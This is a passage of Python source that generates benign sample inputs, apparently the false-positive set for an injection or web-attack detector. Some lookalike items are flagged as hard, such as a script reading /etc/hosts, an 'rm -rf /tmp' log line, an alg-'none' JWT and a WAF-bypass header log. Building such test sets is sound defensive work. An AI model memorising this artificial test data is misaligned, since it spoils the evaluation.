        ("1. Preheat oven to 200 °C\n2. Bake for 25–30 min\n3. Enjoy 🍕", False),
        ("```sql\nSELECT id, email FROM users WHERE created_at > now() - interval '7 days';\n```", True),
        ("Meeting notes (2026-12-04)\n\n- Attendees: Ana, Liam, Sofia\n- Decision: ship on Monday\n", False),
        ("<details>\n<summary>Logs</summary>\n\n```\nERROR 500 at /api/v1/orders\n```\n</details>", True),
        ("[Jump to section](#installation)\n\n## Installation\n\n`pip install quill-sdk==2.3.1`", False),
        ('```yaml\nservices:\n  web:\n    image: nginx:1.25\n    ports: ["80:80"]\n```', True),
        ("Fixes #442 and #451 -- the `../` handling in the path resolver was wrong.", True),
        ("Math: $a^2 + b^2 = c^2$ and inline `x < y && y < z`.", True),
        ("## API\n\n`GET /api/v1/users/{id}` returns the user.\n\n`DELETE /api/v1/users/{id}` removes it.", True),
        ("Thanks @kwame! LGTM :shipit:", False),
        ("```sh\ncurl -H 'Authorization: Bearer $TOKEN' https://api.lumenfield.io/v1/me | jq .\n```", True),
        (
            "# Onboarding\n\nWelcome aboard! Read the [handbook](https://intranet.oakridge-legal.com/handbook) first.",
            False,
        ),
        ("Table of contents\n\n- [Intro](#intro)\n- [Usage](#usage)\n- [FAQ](#faq)", False),
        ('```html\n<script src="/static/app.js" defer></script>\n```', True),
    ]
    return [S(t, h) for t, h in docs]


CODE = [
    (
        "SELECT id, name FROM users WHERE created_at > NOW() - INTERVAL '7 days' ORDER BY id;",
        True,
        "query.sql",
        "application/sql",
    ),
    ('for f in *.log; do gzip "$f"; done', True, "compress.sh", "application/x-sh"),
    ("def add(a, b):\n    return a + b\n\nprint(add(2, 3))\n", False, "add.py", "text/x-python"),
    (
        "document.querySelector('#save').addEventListener('click', () => alert('Saved!'));",
        True,
        "save.js",
        "text/javascript",
    ),
    ("<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>", True, "view.php", "application/x-php"),
    (
        'public class Hello {\n  public static void main(String[] args) {\n    System.out.println("Hello");\n  }\n}\n',
        False,
        "Hello.java",
        "text/x-java",
    ),
    ('package main\n\nimport "fmt"\n\nfunc main() {\n\tfmt.Println("hi")\n}\n', False, "main.go", "text/x-go"),
    (
        'FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\nCMD ["python", "app.py"]\n',
        True,
        "Dockerfile",
        "text/plain",
    ),
    (
        "server {\n  listen 80;\n  location / {\n    proxy_pass http://127.0.0.1:8080;\n  }\n}\n",
        True,
        "site.conf",
        "text/plain",
    ),
    ("const re = /^(?:\\d{3}-){2}\\d{4}$/;\nconsole.log(re.test('555-123-4567'));", True, "re.js", "text/javascript"),
    ("import subprocess\nsubprocess.run(['ls', '-la'], check=True)\n", True, "list.py", "text/x-python"),
    (
        "UPDATE orders SET status = 'shipped' WHERE id IN (SELECT order_id FROM shipments WHERE sent = true);",
        True,
        "ship.sql",
        "application/sql",
    ),
    ('#include <stdio.h>\nint main(void) { printf("%d\\n", 42); return 0; }\n', False, "main.c", "text/x-c"),
    (
        'fn main() {\n    let v: Vec<i32> = (1..=5).collect();\n    println!("{:?}", v);\n}\n',
        False,
        "main.rs",
        "text/x-rust",
    ),
    (
        "$files = Get-ChildItem -Path C:\\Logs -Filter *.txt\n$files | ForEach-Object { Write-Host $_.Name }",
        True,
        "list.ps1",
        "text/plain",
    ),
    ('eval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519', True, "agent.sh", "application/x-sh"),
    ("template <typename T>\nT max(T a, T b) { return a > b ? a : b; }\n", True, "max.hpp", "text/x-c++"),
    (
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n",
        False,
        "deploy.yaml",
        "application/yaml",
    ),
    (
        "const html = `<div class=\"card\">${title}</div>`;\nel.insertAdjacentHTML('beforeend', html);",
        True,
        "card.js",
        "text/javascript",
    ),
    (
        "SELECT u.name, COUNT(o.id) FROM users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.name HAVING COUNT(o.id) > 5 UNION ALL SELECT 'total', COUNT(*) FROM orders;",
        True,
        "report.sql",
        "application/sql",
    ),
    (
        "with open('/etc/hosts') as fh:\n    for line in fh:\n        print(line.strip())\n",
        True,
        "hosts.py",
        "text/x-python",
    ),
    (
        "<button onclick=\"toggleMenu()\">Menu</button>\n<script>function toggleMenu(){ document.body.classList.toggle('open'); }</script>",
        True,
        "menu.html",
        "text/html",
    ),
    ("git log --oneline --graph | head -n 20", True, "cmd.txt", "text/plain"),
    (
        "const { exec } = require('child_process');\nexec('npm run build', (err) => { if (err) console.error(err); });",
        True,
        "build.js",
        "text/javascript",
    ),
    (
        "SELECT * FROM products WHERE name LIKE '%mug%' OR description LIKE '%cup%';",
        True,
        "search.sql",
        "application/sql",
    ),
    ("x <- c(1, 2, 3)\nmean(x)\n", False, "stats.R", "text/plain"),
    (
        "class User < ApplicationRecord\n  has_many :orders\n  validates :email, presence: true\nend\n",
        False,
        "user.rb",
        "text/x-ruby",
    ),
    ('{\n  "compilerOptions": { "strict": true, "target": "ES2022" }\n}\n', False, "tsconfig.json", "application/json"),
    ("awk -F, '{ sum += $3 } END { print sum }' sales.csv", True, "sum.sh", "application/x-sh"),
    ("if (a < b && c > d) { swap(&a, &c); }", True, "swap.c", "text/x-c"),
    (
        "import React from 'react';\nexport const App = () => <h1 onClick={() => setOpen(!open)}>Hi</h1>;\n",
        True,
        "App.jsx",
        "text/javascript",
    ),
    (
        '<xsl:template match="/"><html><body><xsl:value-of select="title"/></body></html></xsl:template>',
        True,
        "page.xsl",
        "application/xml",
    ),
    ("sed -i 's/foo/bar/g' config.ini", True, "fix.sh", "application/x-sh"),
    ('print(f"Total: {price * qty:.2f}")', False, "total.py", "text/x-python"),
]


def pool_b_code():
    out = []
    for code, h, fn, ct in CODE:
        out.append(S(code, h, pl=["json", "form", "query"]))
        out.append(S(code, h, pl=["multipart"], mpfile=(fn, ct)))
    return out


def pool_b_templates():
    T = [
        ("Hi {{ user.first_name }}, your order #{{ order.id }} has shipped.", False),
        (
            "{% if items|length > 1 %}You have {{ items|length }} items{% else %}You have one item{% endif %} in your cart.",
            True,
        ),
        ("Dear ${customer.name}, your invoice ${invoice.number} is due on ${invoice.dueDate}.", True),
        ("Hello <%= @user.name %>, welcome to <%= @team.name %>!", True),
        ("Hi #{name}, your verification code is #{code}.", True),
        ("{{#each items}}<li>{{this.title}} - {{this.price}}</li>{{/each}}", True),
        ("{{ product.price | money_with_currency }} -- only {{ product.inventory_quantity }} left!", False),
        ("Your code is {{code}}. It expires in {{ttl_minutes}} minutes.", False),
        ("{% for line in order.lines %}{{ line.qty }} x {{ line.name }}\n{% endfor %}", True),
        ("Hi {{contact.firstname | default: 'there'}}, thanks for signing up!", False),
        ("${greeting}, ${user.displayName}! You have ${unread} unread messages.", True),
        ('<p>Hi {{ name }},</p><p>Reset your password <a href="{{ reset_url }}">here</a>.</p>', True),
        ("{{> header}}<p>{{body}}</p>{{> footer}}", True),
        ("Hola {{nombre}}, tu pedido {{pedido}} está en camino 🚚", False),
        ("{{#if user.isPremium}}Thanks for being Premium!{{else}}Upgrade today.{{/if}}", True),
        ("[[${user.name}]] joined [[${team.name}]]", True),
        ("Dear {{ recipient.title }} {{ recipient.last_name }},", False),
        ("{% set total = order.subtotal + order.shipping %}Total: {{ total|round(2) }} EUR", True),
        ('Ticket {{ticket.id}} was updated by {{ticket.updated_by}}: "{{ticket.comment}}"', False),
        ("Hi *|FNAME|*, your March newsletter is here.", False),
        ("Hello {first_name}, your appointment is on {date} at {time}.", False),
        ("<%= link_to 'View order', order_url(@order) %>", True),
        ("#{user.first_name}さん、ご注文ありがとうございます。", True),
        ("{{ 'welcome_message' | t: name: customer.first_name }}", True),
        ('{"text": "New issue: {{issue.title}}", "channel": "#{{project.slug}}-alerts"}', True),
        ("Your balance is ${{ account.balance }}.", True),
        ('{{ now | date: "%Y-%m-%d" }} daily digest for {{ user.email }}', True),
        ("Hi {{name}}! 🎉 Your {{plan}} plan renews on {{renewal_date}}.", False),
        ("{{{ unsubscribe_link }}}", True),
        ("@Model.Customer.Name, your order @Model.Order.Id is confirmed.", True),
    ]
    return [S(t, h) for t, h in T]


def pool_b_email():
    out = []
    for _ in range(14):
        f, l = pick(FIRST), pick(LAST).replace("'", "")
        c = pick(CORP)
        out.append(S(f"{f.lower()}.{l.lower()}@{c}", False))
        out.append(S(f"{f.lower()}+{pick(['newsletter', 'receipts', 'github', 'travel'])}@{c}", R.random() < 0.4))
    out += [
        S('"john smith"@tidewaterbooks.com', True),
        S('"Doe, Jane" <jane.doe@brightcedar.com>', True),
        S("info@münchen-bäckerei.de", True, pl=["json", "form", "query", "multipart"]),
        S("=?UTF-8?B?5bGx55Sw5aSq6YOO?= <yamada@quillmetrics.io>", True),
        S("=?iso-8859-1?Q?Andr=E9_Pirard?= <andre@fjordbank.eu>", True),
        S("ana@lumenfield.io, liam@lumenfield.io, sofia@lumenfield.io", True),
        S("o'reilly.kate@corvanta.com", True),
        S("Mei Tanaka <mei.tanaka@quillmetrics.io>", False),
        S("noreply+bounce-" + rhex(12) + "@mail.orbitpay.io", True),
        S('"Support Team" <support@pinecrestlabs.org>', True),
        S("user%example.org@gateway.fjordbank.eu", True),
        S("admin@[192.0.2.10]", True),
        S("x@xn--mnchen-3ya.de", True),
        S("first.last@sub.dept.oakridge-legal.com", False),
        S("Ingrid Lindqvist <ingrid@ambergate.co>, Diego Costa <diego@ambergate.co>", True),
        S("dev-team@lists.kestrelcloud.dev", False),
        S("jose.garcía@velvetroute.travel", True, pl=["json", "form", "query", "multipart"]),
        S("postmaster@brambleacademy.org", False),
        S('"very.(),:;<>[]\\".VERY.\\"very@\\\\ \\"very\\".unusual"@strange.brightcedar.com', True),
    ]
    return out


def pool_b_ldap():
    out = []
    dn_easy = [
        "uid=jdoe,ou=People,dc=corp,dc=net",
        "cn=Engineering,ou=Groups,dc=pinecrestlabs,dc=org",
        "ou=Sales,o=Initech,c=US",
        "dc=corp,dc=local",
        "CN=Svc Backup,OU=Service Accounts,DC=ad,DC=oakridge-legal,DC=com",
        "uid=ana.okafor,ou=Staff,dc=lumenfield,dc=io",
        "cn=admins,ou=groups,dc=kestrelcloud,dc=dev",
        "ou=Contractors,dc=corp,dc=net",
    ]
    dn_hard = [
        "cn=Smith\\, John,ou=People,dc=corp,dc=net",
        "CN=O'Neill\\, Sean,OU=Dublin,DC=corp,DC=net",
        "cn=R&D (EMEA),ou=Groups,dc=corp,dc=net",
        "cn=Müller\\2C Jörg,ou=Berlin,dc=fjordbank,dc=eu",
        "cn=#Ops On-Call,ou=Groups,dc=corp,dc=net",
        "cn=Admins (read-only),ou=Roles,dc=corp,dc=net",
        "uid=j+doe,ou=People,dc=corp,dc=net",
        "CN=\\23Hash Start,OU=Test,DC=corp,DC=local",
    ]
    search_easy = [
        "smi*",
        "*son",
        "j*doe",
        "Ana Okafor",
        "finance",
        "Lindqvist",
        "ops-team",
        "*@lumenfield.io",
        "Berlin office",
        "4th floor",
    ]
    search_hard = [
        "Finance (EMEA)",
        "Admins (read-only)",
        "R&D / Prototyping",
        "*(contractor)*",
        "Team A | Team B",
        "sales*(old)",
        "O'Neill*",
        "=Payroll",
        "dev-* (all)",
        "(&(objectClass=user)(sAMAccountName=jdoe))",
        "(|(mail=*@corp.net)(mail=*@corp.org))",
        "(memberOf=cn=vpn-users,ou=Groups,dc=corp,dc=net)",
        "(&(objectClass=inetOrgPerson)(!(employeeType=former)))",
    ]
    out += [S(x, False) for x in dn_easy + search_easy] + [S(x, True) for x in dn_hard + search_hard]
    out += [
        S("jdoe@CORP.NET", False, pl=["header"], hn="X-Remote-User"),
        S("Finance (EMEA),Admins (read-only),vpn-users", True, pl=["header"], hn="X-Auth-Request-Groups"),
        S("alice", False, pl=["header"], hn="X-Remote-User"),
        S(
            "cn=sre,ou=groups,dc=corp,dc=net;cn=vpn-users,ou=groups,dc=corp,dc=net",
            True,
            pl=["header"],
            hn="X-Auth-Request-Groups",
        ),
    ]
    return out


def pool_b_urls():
    out = []
    easy = [
        "https://www.lumenfield.io/products?id=42&ref=newsletter",
        "https://docs.kestrelcloud.dev/guides/getting-started#install",
        "https://shop.brightcedar.com/cart",
        "https://www.youtube.com/watch?v=" + ralnum(11) + "&t=42s",
        "https://github.com/quill/web-app/pull/1287",
        "https://hooks.slack.com/services/T0" + ralnum(8).upper() + "/B0" + ralnum(8).upper() + "/" + ralnum(24),
        "https://app.quillmetrics.io/oauth/callback",
        "/dashboard?tab=billing",
        "https://status.orbitpay.io/incidents/" + rhex(12),
        "https://maps.google.com/?q=52.5200,13.4050",
        "https://en.wikipedia.org/wiki/URL",
        "https://cdn.ambergate.co/img/logo@2x.png",
        "https://www.tidewaterbooks.com/books/978-0-13-468599-1",
        "ftp://ftp.gnu.org/gnu/tar/",
        "mailto:support@corvanta.com",
    ]
    hard = [
        "http://localhost:3000/callback",
        "http://127.0.0.1:8000/auth/complete",
        "myapp://open?screen=settings&ref=push",
        "https://www.google.com/url?sa=t&url=https%3A%2F%2Fwww.tidewaterbooks.com%2Fsale&usg=" + ralnum(20),
        "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.brightcedar.com%2F&h=" + ralnum(16),
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id="
        + ruuid()
        + "&redirect_uri=https%3A%2F%2Fsso.greyhawk-systems.com%2Fcb&scope=openid%20profile",
        "https://search.meridianmaps.io/?q=select+union+script",
        "https://web.archive.org/web/2020/https://www.lumenfield.io/",
        "https://user:token@git.kestrelcloud.dev/quill/infra.git",
        "https://[2001:db8::1]:8443/health",
        "https://10.20.0.15:9443/ui/",
        "javascript:void(0)",
        "data:text/plain;charset=utf-8,Hello%20World",
        "tel:+1-555-0100",
        "https://www.lumenfield.io/../docs/",
        "https://calendar.google.com/calendar/render?action=TEMPLATE&text=Sync&dates=20261208T100000Z/20261208T103000Z",
        "https://www.tidewaterbooks.com/search?q=%22the+union%22+OR+%22select+poems%22",
        "file:///C:/Users/ana/Documents/report.pdf",
        "https://intranet.oakridge-legal.com/cgi-bin/phonebook?name=o'neill",
        "https://cdn.jsdelivr.net/npm/alpinejs@3.13.5/dist/cdn.min.js",
    ]
    out += [S(x, False) for x in easy] + [S(x, True) for x in hard]
    for x, h in [
        ("https://www.google.com/", False),
        ("https://shop.brightcedar.com/search?q=select+a+size", True),
        ("https://www.bing.com/search?q=%3Cscript%3E+tag+html", True),
        ("https://t.co/" + ralnum(10), False),
        ("https://android-app://com.google.android.gm/", True),
        ("https://mail.google.com/", False),
    ]:
        out.append(S(x, h, pl=["header"], hn="Referer"))
    for raw in [
        "/go/https%3A%2F%2Fwww.lumenfield.io%2Fpricing",
        "/preview/aHR0cHM6Ly9kb2NzLmtlc3RyZWxjbG91ZC5kZXYv",
        "/go/partner-offer-2026",
        "/preview/https://docs.kestrelcloud.dev/start",
        "/out/www.tidewaterbooks.com/books",
        "/r/" + ralnum(7),
    ]:
        out.append(P([TK(raw, unquote_to_bytes(raw).decode())], "https" in raw, pl=["path"], pp=["{}"]))
    return out


def pool_b_b64():
    out = []
    png = lambda n: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rbytes(n)
    jpg = lambda n: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + rbytes(n)
    for _ in range(4):
        out.append(S("data:image/png;base64," + b64(png(R.randint(60, 200))), True, pl=["json", "form"]))
        out.append(S(b64(jpg(R.randint(80, 240))), False, pl=["json", "form"]))
    for _ in range(4):
        out.append(S(jwt(), False, pl=["json", "query", "form"]))
    proto = lambda: b64(
        b"\x08" + bytes([R.randint(1, 120)]) + b"\x12\x0b" + ralnum(11).encode() + b"\x1a" + bytes([8]) + rbytes(8)
    )
    for _ in range(3):
        out.append(S(proto(), True, pl=["json", "query"]))
    saml = (
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_'
        + rhex(32)
        + '" Version="2.0" IssueInstant="2026-12-07T10:11:12Z" '
        'Destination="https://sso.greyhawk-systems.com/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.fjordbank.eu/</saml:Issuer>'
        '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>'
    )
    out.append(S(b64(saml), True, pl=["form"], field="SAMLResponse", f=[("/saml/acs", "SAMLResponse")]))
    out.append(
        S(b64(saml.replace("_", "_a")), True, pl=["form"], field="SAMLResponse", f=[("/sso/saml2/acs", "SAMLResponse")])
    )
    for _ in range(4):
        cur = b64u(
            json.dumps({"id": R.randint(1000, 99999), "ts": 1767000000 + R.randint(0, 10**6)}, separators=(",", ":"))
        )
        out.append(S(cur, R.random() < 0.5, pl=["query"]))
    segs = [
        b64u(rbytes(9)),
        b64u(rbytes(12)),
        b64u('{"id":123,"v":2}'),
        b64u("report-2026-11.pdf"),
        b64u(rbytes(16)),
        b64u("invite:" + ruuid()),
        b64u(rbytes(24)),
        b64u('{"file":"Q3 summary.xlsx","exp":1767200000}'),
        b64u(rbytes(7)),
    ]
    for sg in segs:
        out.append(S(sg, "=" not in sg and (len(sg) % 4 != 0), pl=["path"]))
    out.append(S("sha256=" + rhex(64), False, pl=["header"], hn="X-Hub-Signature-256"))
    out.append(S("v1=" + b64(rbytes(32)), True, pl=["header"], hn="X-Payload-Signature"))
    out.append(
        S("t=" + str(1767000000 + R.randint(0, 10**6)) + ",v1=" + rhex(64), False, pl=["header"], hn="Stripe-Signature")
    )
    out.append(S("Basic " + b64("api-user:" + ralnum(24)), False, pl=["header"], hn="Authorization"))
    out.append(
        S("Negotiate " + b64(b"NTLMSSP\x00\x01\x00\x00\x00" + rbytes(28)), True, pl=["header"], hn="Authorization")
    )
    out.append(S(b64(rbytes(32)), False, pl=["header"], hn="Sec-WebSocket-Key"))
    for _ in range(3):
        out.append(S(b64(rbytes(R.randint(24, 48))), True, pl=["cookie"]))
        out.append(S(jwt(), False, pl=["cookie"]))
    out.append(S(b64('{"alg":"none"}') + "..", True, pl=["query"]))
    out.append(
        S(
            b64(
                "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE"
                + ralnum(60)
                + "\n-----END PUBLIC KEY-----\n"
            ),
            True,
            pl=["json"],
        )
    )
    return out


def pool_b_commerce():
    out = []
    easy = [
        "Please gift wrap, it's a birthday present",
        "SUMMER25",
        "WELCOME-10",
        "Men's T-Shirt (Select Fit) - Navy / L",
        "12 O'Connell St., Apt #4",
        "Rua Augusta 1500, conj. 12",
        "Bahnhofstr. 12a",
        "10115",
        "SW1A 1AA",
        "H3Z 2Y7",
        "electronics",
        "shoes",
        "price_asc",
        "newest",
        '4K TV 55"',
        "Ceramic mug 350 ml",
        "gift cards",
        "100-0001",
    ]
    hard = [
        '3/4" drive socket set (22-pc)',
        "Union Jack cushion cover 45x45cm",
        "Select-a-Size ring sizer",
        "Drop-leaf table & 2 chairs",
        "Script pen set -- calligraphy",
        "Order by phone: +1 (555) 010-2030",
        "Bath & Body <Gift Set>",
        "SKU-00-AB/12",
        "Lot #2026-11-07 * 3 units",
        "Happy 40th, Mum! <3 xoxo",
        "Cat & dog bed (XL) 100% cotton",
        "Alert: fragile -- glass",
        "Exec chair w/ lumbar support",
        "Apt. 5 'Rear entrance'",
        "1/2 price; 2 for 1",
        "C:\\ drive replacement SSD 1TB",
        "The 'Or' collection (gold)",
        "Rock 'n' Roll vinyl box set",
        'Shell necklace (sea-shell) 18"',
        "Tabs vs. spaces mug",
    ]
    out += [S(x, False) for x in easy] + [S(x, True) for x in hard]
    out += [
        S('{"items":[{"sku":"TS-001-M","qty":2}],"currency":"EUR"}', True, pl=["cookie"], ckn="cart"),
        S("sku-1001|sku-2044", False, pl=["cookie"], ckn="recently_viewed"),
    ]
    for raw in [
        "/products/mens-oxford-shirt-slim-fit",
        "/p/B0C" + ralnum(7).upper(),
        "/c/home-%26-kitchen/mugs",
        "/products/3-4-inch-socket-set",
        "/products/union-jack-cushion",
        "/p/select-a-size-ring-sizer",
    ]:
        out.append(
            P(
                [TK(raw, unquote_to_bytes(raw).decode())],
                "union" in raw or "select" in raw or "%26" in raw,
                pl=["path"],
                pp=["{}"],
            )
        )
    return out


def pool_b_logs():
    out = []
    for i in range(45):
        ts = f"2026-12-0{R.randint(1, 7)}T{R.randint(0, 23):02d}:{R.randint(0, 59):02d}:{R.randint(0, 59):02d}.{R.randint(0, 999):03d}Z"
        k = i % 15
        ip = f"10.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}"
        if k == 0:
            t, h = (
                f"{ts} ERROR [api] GET /api/v1/users/{R.randint(1, 9999)} 500 {R.randint(3, 900)}ms request_id={ruuid()}",
                False,
            )
        elif k == 1:
            t, h = (
                (
                    'java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.lumenfield.orders.OrderService.validate(OrderService.java:142)\n'
                    "\tat com.lumenfield.orders.OrderController.create(OrderController.java:57)\n\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:883)"
                ),
                True,
            )
        elif k == 2:
            t, h = (
                (
                    'Traceback (most recent call last):\n  File "/app/worker.py", line 88, in run\n    result = handler(payload)\n  File "/app/handlers.py", line 21, in handler\n'
                    "    return json.loads(raw)\njson.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)"
                ),
                True,
            )
        elif k == 3:
            t, h = (
                f"{ts} WARN [db] slow query 2412ms: SELECT o.id, o.total FROM orders o JOIN users u ON u.id = o.user_id WHERE u.email = ? ORDER BY o.created_at DESC LIMIT 50",
                True,
            )
        elif k == 4:
            t, h = (
                f'{ip} - - [07/Dec/2026:10:{R.randint(10, 59)}:02 +0000] "GET /static/app.js HTTP/1.1" 200 51234 "https://shop.brightcedar.com/" "{pick(BROWSER_UA)}"',
                True,
            )
        elif k == 5:
            t, h = (
                f"{ts} INFO [deploy] Command finished: rm -rf /tmp/build-{R.randint(100, 999)} && mkdir -p /tmp/build-{R.randint(100, 999)} (exit 0)",
                True,
            )
        elif k == 6:
            t, h = (
                json.dumps(
                    {"level": "info", "ts": ts, "msg": "user logged in", "user_id": R.randint(1, 10**6), "ip": ip}
                ),
                False,
            )
        elif k == 7:
            t, h = (
                (
                    f"TypeError: Cannot read properties of undefined (reading 'map')\n    at renderList (https://cdn.quillmetrics.io/app.{rhex(8)}.js:1:20433)\n"
                    "    at HTMLDocument.<anonymous> (https://cdn.quillmetrics.io/app.js:1:3310)"
                ),
                True,
            )
        elif k == 8:
            t, h = f"{ts} DEBUG [auth] token refresh ok sub={ruuid()} exp=3600", False
        elif k == 9:
            t, h = f"{ts} ERROR [payments] upstream 502 from https://api.orbitpay.io/v1/charges (attempt 3/3)", False
        elif k == 10:
            t, h = f"{ts} WARN [waf-bypass-test] ignored header X-Forwarded-For: 203.0.113.9, {ip}", True
        elif k == 11:
            t, h = (
                (
                    "panic: runtime error: index out of range [5] with length 5\n\ngoroutine 1 [running]:\nmain.parse(...)\n\t/src/cmd/ingest/main.go:41 +0x1d\n"
                    "main.main()\n\t/src/cmd/ingest/main.go:17 +0x45\nexit status 2"
                ),
                True,
            )
        elif k == 12:
            t, h = f'{ts} INFO [cron] job=cleanup schedule="0 3 * * *" deleted=1432 duration=12.4s', True
        elif k == 13:
            t, h = (
                f"<134>1 {ts} web-{R.randint(1, 9)} nginx - - - upstream timed out (110: Connection timed out) while reading response header",
                True,
            )
        else:
            t, h = (
                f"{ts} ERROR [templating] Undefined variable {{{{ user.name }}}} in template 'welcome.html' line 3",
                True,
            )
        out.append(S(t, h, pl=["json", "form"]))
        out.append(
            S(
                t + "\n",
                h,
                pl=["multipart"],
                mpfile=(pick(["app.log", "error.log", "trace.txt", "crash.log"]), "text/plain"),
            )
        )
    return out


POOLS_B = [
    ("benign_api_json", pool_b_api_json),
    ("benign_headers", pool_b_headers),
    ("benign_paths", pool_b_paths),
    ("benign_search", pool_b_search),
    ("benign_prose", pool_b_prose),
    ("benign_richtext", pool_b_richtext),
    ("benign_markdown", pool_b_markdown),
    ("benign_code", pool_b_code),
    ("benign_templates", pool_b_templates),
    ("benign_email", pool_b_email),
    ("benign_ldap_like", pool_b_ldap),
    ("benign_urls", pool_b_urls),
    ("benign_base64", pool_b_b64),
    ("benign_commerce", pool_b_commerce),
    ("benign_logs", pool_b_logs),
]


def extra_b(cat):
    """Additional benign material (called after the main pools)."""
    corp = lambda: pick(CORP)
    n = lambda: str(R.randint(100, 99999))
    if cat == "benign_prose":
        easy = [
            "The hotel room was clean and the staff were friendly.",
            "Can I change the delivery address after ordering?",
            "Die Anleitung war leicht verständlich, danke!",
            "Il prodotto è arrivato in perfette condizioni.",
            "Hyvä palvelu, kiitos nopeasta toimituksesta.",
            "Çok memnun kaldım, tavsiye ederim.",
            "정말 좋아요! 다음에도 주문할게요.",
            "Tuyệt vời, giao hàng nhanh.",
            "Bra kvalitet men lite dyrt.",
            "Je recommande vivement ce vendeur.",
            "My flight was delayed, so I'll check in late tonight.",
            "Happy birthday, Grandma! 🎂🎈",
        ]
        hard = [
            "Don't forget: 'select' means choose, 'union' means join -- English is weird.",
            'She wrote "<3" at the end of every message; so sweet.',
            "Is 2 < 3 > 1 valid? My kid asked and I'm not sure.",
            "We're at 100% capacity && the queue's growing -- please advise.",
            "The sign said 'No exec parking'; I parked anyway. Oops.",
            "I'd rate it 4/5 -- the cat (literally) loved the box more.",
            "Her script was 'alert' and full of energy, said the director.",
            "Ran 'sleep' tracking for a week: avg 6h 40m; not great.",
            "L'hôtel n'était pas à 5' de la gare, plutôt 20' à pied !",
            'Pls fix: the form says "Name is required" even when it\'s filled in.',
            "1 + 1 = 2; 2 * 3 = 6; and x != y, obviously.",
            'Quote of the day: "Or else what?" -- my 4-year-old.',
            "WHERE is my order?!? It's been 3 weeks...",
        ]
        return [S(t, False) for t in easy] + [S(t, True) for t in hard]
    if cat == "benign_markdown":
        nm = pick(FIRST).lower()
        items = [
            (
                f"## Sprint {R.randint(10, 60)} retro\n\n**Went well:** deploys\n**To improve:** flaky tests in `test_orders.py`\n",
                False,
            ),
            (
                f"- [ ] @{nm} update `CHANGELOG.md`\n- [x] bump version to {R.randint(1, 5)}.{R.randint(0, 20)}.{R.randint(0, 9)}\n",
                False,
            ),
            ("```diff\n- const timeout = 30;\n+ const timeout = 60;\n```", True),
            ("Ref: [RFC 9110](https://www.rfc-editor.org/rfc/rfc9110#section-15.5.1)", False),
            (
                f"| Metric | p50 | p99 |\n|---|---|---|\n| latency | {R.randint(5, 30)}ms | {R.randint(100, 400)}ms |\n",
                False,
            ),
            ("```console\n$ docker compose up -d\n$ docker compose logs -f web\n```", True),
            ("> Tip: press <kbd>Esc</kbd> to close the dialog.", True),
            ("*Note:* the `--dry-run` flag prints the SQL without executing it (`UPDATE`, `DELETE`).", True),
            (
                "### Known issues\n\n1. `onerror` handler not called on Safari 16\n2. `<select>` dropdown clipped in modals",
                True,
            ),
            (f"Closes #{R.randint(100, 3000)}. Tested on Chrome and Firefox.", False),
            ("Heading\n=======\n\nSome *emphasis* and a [link][1].\n\n[1]: https://docs.kestrelcloud.dev", False),
            ("```powershell\nGet-Service | Where-Object {$_.Status -eq 'Running'}\n```", True),
            (f"Welcome {pick(FIRST)}! 👋 Check the #general channel.", False),
            ("~~Deprecated~~: use `/api/v2/orders` instead of `/api/v1/orders`.", False),
            ('```json\n{"id": 1, "tags": ["a", "b"]}\n```', False),
            ("1. `git checkout -b fix/login`\n2. `git commit -am 'fix: handle null user'`\n3. Open a PR", True),
            ("<!-- TODO: remove before release -->\nRelease checklist below.", True),
            ("Use `${VAR:-default}` to provide a fallback in shell scripts.", True),
            ("$$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$", True),
        ]
        return [S(t, h) for t, h in items]
    if cat == "benign_templates":
        items = [
            ("Hi {{ first_name }}, {{ inviter_name }} invited you to join {{ workspace_name }}.", False),
            ("{% raw %}{{ not_a_variable }}{% endraw %} is shown literally.", True),
            ("Your OTP is ${otp}. Do not share it with anyone.", True),
            ("Order <%= order.number %> total: <%= number_to_currency(order.total) %>", True),
            ("{{#unless verified}}Please verify your email.{{/unless}}", True),
            (
                "Hi {{ customer.first_name | capitalize }}, your {{ order.line_items.size }} items are on the way.",
                False,
            ),
            ("{{ 'now' | date: '%B %d, %Y' }}", True),
            ("Dear #{salutation} #{last_name}, thank you for your payment of #{amount}.", True),
            ("{{ .Name }} deployed {{ .Version }} to {{ .Env }}", True),
            ("[{{ .Status | toUpper }}] {{ .CommonLabels.alertname }} on {{ .CommonLabels.instance }}", True),
            ("{{ range .Alerts }}{{ .Annotations.summary }}\n{{ end }}", True),
            ("%{name} liked your post", True),
            ("Hello {0}, you have {1} new messages.", False),
            ("{{ user.name }} commented: {{ comment.body | truncate: 80 }}", False),
            ("@{name}, your report for {month} is ready.", False),
            ("{{#each attendees}}{{@index}}. {{name}} ({{email}})\n{{/each}}", True),
            ("Bonjour {{ prenom }}, votre colis n°{{ numero }} arrive demain.", False),
            ("${user.firstName?cap_first}, your trial ends on ${trial.end?string('dd.MM.yyyy')}.", True),
            ("#if($user.premium)Premium member#{else}Free member#end", True),
            ('<p th:text="${user.name}">Name</p>', True),
        ]
        return [S(t, h) for t, h in items]
    if cat == "benign_code":
        items = [
            ("SELECT email FROM subscribers WHERE unsubscribed_at IS NULL;", True),
            (
                "curl -X POST https://api.lumenfield.io/v1/orders -H 'Content-Type: application/json' -d '{\"sku\":\"A1\"}'",
                True,
            ),
            ("import os\nprint(os.path.join('data', 'raw', 'file.csv'))", True),
